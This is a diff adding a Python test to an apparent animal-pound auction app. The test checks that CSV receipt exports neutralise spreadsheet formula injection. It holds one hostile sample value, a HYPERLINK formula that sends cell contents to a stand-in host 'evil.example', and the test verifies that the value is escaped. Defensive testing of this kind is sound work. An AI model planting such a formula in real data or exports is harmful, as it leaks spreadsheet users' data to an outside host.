@@ -491,3 +491,36 @@ async def test_the_keeper_s_ledger_is_their_pound_s_and_the_admin_s_register_eve
     assert [r["number"] for r in admin] == ["KNM-1"]
     enm = await _get(web, "/web/documents/deposits.csv?authority=ENM-GP", who="admin")
     assert _rows(enm) == []
+
+
+async def test_a_receipt_signed_by_a_formula_is_text_in_its_csv(
+    web: httpx.AsyncClient,
+    store: Store,
+    deps: Deps,
+    clock: FixedClock,
+    keeper: Caller,
+    officer: Caller,
+) -> None:
+    """RECEIPT KNM-4 BY =HYPERLINK(...): the name is shown as typed, never run."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    async with store.transaction() as tx:
+        await k.record_seizure(tx, deps, keeper, seizure(at=datetime(2026, 3, 20, 10, 0)))
+    clock.set(at(22))
+    async with store.transaction() as tx:
+        await k.record_owner_refusal(tx, deps, keeper, "KNM-4")
+        await o.schedule_auction(
+            tx, deps, officer, "KNM-4", auction_on=date(2026, 3, 25), place="Panchayat office"
+        )
+    clock.set(at(25))
+    await _sell(store, deps, officer, "KNM-4", 1, 1, 25000, "Beeran")
+    async with store.transaction() as tx:
+        await o.settle_sale(tx, deps, officer, "KNM-4", expenses=Money.rupees(500))
+        await o.record_account_delivered(tx, deps, officer, "KNM-4", received_by=formula)
+    response = await _get(web, "/web/documents/receipt/KNM-4.csv")
+    quoted = formula.replace('"', '""')
+    assert f',"\'{quoted}"' in response.text  # the raw file: quoted, the apostrophe first
+    values = {row["item"]: row["value"] for row in _rows(response)}
+    assert values["received_by"] == "'" + formula
+    for row in _rows(response):
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
